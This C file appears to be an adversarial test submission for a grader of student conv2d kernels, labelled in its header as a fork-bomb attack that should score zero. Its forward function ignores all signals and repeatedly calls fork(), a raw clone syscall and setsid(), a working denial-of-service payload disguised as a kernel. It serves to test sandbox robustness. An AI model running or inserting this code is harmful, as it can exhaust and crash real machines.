/* attack: class=fork-bomb, lesson=conv/forward, expect=zero, set=everywhere
 * says=outside the allowed error
 *
 * Doubles itself as often as it can, by fork(), vfork() and the bare system calls; every copy
 * ignores signals and goes on. Without a limit on processes the machine is lost. */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int number = 1; number < NSIG; number++)
        signal(number, SIG_IGN);
    for (int i = 0; i < 100000; i++) {
        fork();
        syscall(SYS_clone, SIGCHLD | CLONE_PARENT, NULL, NULL, NULL, NULL);
        setsid();
    }
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
